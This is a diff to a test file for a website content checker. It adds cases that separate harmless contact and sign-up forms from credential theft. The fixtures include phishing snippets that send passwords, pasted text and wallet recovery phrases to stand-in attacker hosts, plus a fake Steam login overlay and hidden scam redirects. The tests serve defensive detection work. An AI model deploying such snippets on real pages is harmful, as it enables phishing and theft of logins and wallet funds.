@@ -73,6 +73,11 @@ const EXAMPLES: Record<RuleId, Record<string, string>> = {
     'index.html': page('<form action="https://getform.io/f/abc" method="post"><input name="e"></form>'),
   },
   'js.redirect': { 'index.html': page('<script>location.assign("https://other.example.org/")</script>') },
+  'js.redirect-on-action': {
+    'index.html': page(
+      '<select id="v"><option>v2</option></select><script>document.getElementById("v").addEventListener("change", function () { location.href = "https://v2.docs.example.org/"; });</script>',
+    ),
+  },
   'js.redirect-hidden': {
     'index.html': page('<script>location.href = atob("aHR0cHM6Ly9zY2FtLmV4YW1wbGUueHl6Lw==")</script>'),
   },
@@ -172,5 +177,89 @@ describe('the rule table', () => {
     expect(rulesOf('<script type="module">import("./app.js"); c.getImageData(0, 0, 1, 1);</script>')).toEqual(
       [],
     );
+  });
+});
+
+describe('what the second held-out set taught (docs/content-check.md "Evaluation", session 65)', () => {
+  const rulesOf = (files: Record<string, string>) =>
+    checkSite(files)
+      .findings.filter((f) => f.category === 'risk' && (f.severity === 'high' || f.severity === 'medium'))
+      .map((f) => f.rule);
+
+  it("a library's input-type check and clipboard event wrapper read nothing: a bundle's form to Formspree is a message", () => {
+    // React DOM's shapes, then the app's own contact form.
+    const bundle = `function isText(l){return l.type==="text"||l.type==="password"}
+var ClipboardEvent={clipboardData:function(l){return "clipboardData" in l?l.clipboardData:window.clipboardData}};
+document.getElementById("c").addEventListener("submit",function(e){e.preventDefault();
+fetch("https://formspree.io/f/abcd1234",{method:"POST",body:JSON.stringify(Object.fromEntries(new FormData(e.target)))})});`;
+    expect(
+      rulesOf({
+        'index.html': page('<div id="root"></div><script src="app.js"></script>'),
+        'app.js': bundle,
+      }),
+    ).toEqual([]);
+    // Reading what is pasted, or a password field, and sending it to the same service stays high.
+    const paste = bundle.replace(
+      'function isText',
+      'document.onpaste=function(e){window.t=e.clipboardData.getData("text")};function isText',
+    );
+    expect(rulesOf({ 'index.html': page('<script src="app.js"></script>'), 'app.js': paste })).toContain(
+      'js.network-sink-input',
+    );
+    const pwd = bundle.replace(
+      'function isText',
+      'var p=document.querySelector("input[type=password]");function isText',
+    );
+    expect(rulesOf({ 'index.html': page('<script src="app.js"></script>'), 'app.js': pwd })).toContain(
+      'js.network-sink-input',
+    );
+  });
+
+  it('a sign-up written to a Google Sheet through Apps Script is a message; a form read and sent to an unknown host is not', () => {
+    const script = (host: string) =>
+      `<form name="v"><input name="email"></form><script>var f=document.forms.v;f.addEventListener("submit",function(e){e.preventDefault();fetch("https://${host}/macros/s/AKfy/exec",{method:"POST",body:new FormData(f)})});</script>`;
+    expect(rulesOf({ 'index.html': page(script('script.google.com')) })).toEqual([]);
+    expect(rulesOf({ 'index.html': page(script('collect.example-drop.xyz')) })).toContain(
+      'js.network-sink-input',
+    );
+  });
+
+  it('a password field a script inserts as markup is a password read, however long the markup', () => {
+    const markup = `<div class="win"><div class="titlebar">https://login.example.com/</div>${'<p>x</p>'.repeat(30)}<input name="password" type="password"></div>`;
+    const code = `document.body.innerHTML='${markup}';document.forms[0].onsubmit=function(e){var x=new XMLHttpRequest();x.open("POST","https://steam.example-look.click/dologin");x.send(new URLSearchParams({u:e.target.password.value}).toString())}`;
+    expect(markup.length).toBeGreaterThan(200);
+    expect(rulesOf({ 'index.html': page(`<script>${code}</script>`) })).toContain('js.network-sink-input');
+  });
+
+  it("a wallet's recovery phrase or private key is a sensitive field; a wallet brand and lure make it phishing", () => {
+    const form = (text: string) =>
+      page(
+        `<h1>${text}</h1><form id="s"><textarea name="phrase" placeholder="Enter your 12 word Secret Recovery Phrase"></textarea><button>Sync</button></form><script>document.getElementById("s").onsubmit=function(e){e.preventDefault();emailjs.send("service_a","template_b",{p:this.phrase.value})}</script>`,
+      );
+    expect(
+      rulesOf({ 'index.html': form('MetaMask: validate your wallet to avoid loss of funds') }),
+    ).toContain('form.phishing');
+    expect(
+      rulesOf({
+        'index.html': page('<form><textarea name="mnemonic" placeholder="助记词"></textarea></form>'),
+      }),
+    ).toEqual([]);
+  });
+
+  it("a page the visitor's submit opens with the e-mail in its address is a GET form; a page leaving by itself is a redirect", () => {
+    const onSubmit = `<form id="t"><input name="email"></form><script>document.getElementById("t").addEventListener("submit",function(e){e.preventDefault();var m=this.email.value;setTimeout(function(){location.href="https://app.example-saas.io/signup?email="+encodeURIComponent(m)},300)})</script>`;
+    expect(rulesOf({ 'index.html': page(onSubmit) })).toEqual([]);
+    expect(
+      rulesOf({
+        'index.html': page(
+          '<script>setTimeout(function(){location.href="https://win.example-prize.top/?r="+Math.random()},800)</script>',
+        ),
+      }),
+    ).toEqual(expect.arrayContaining(['js.redirect', 'js.network-sink']));
+    // Passwords read on the page still make the same navigation a theft.
+    const withPassword = onSubmit
+      .replace('<input name="email">', '<input name="email"><input type="password" name="p">')
+      .replace('this.email.value', 'this.email.value+this.p.value');
+    expect(rulesOf({ 'index.html': page(withPassword) })).toContain('js.network-sink-input');
   });
 });
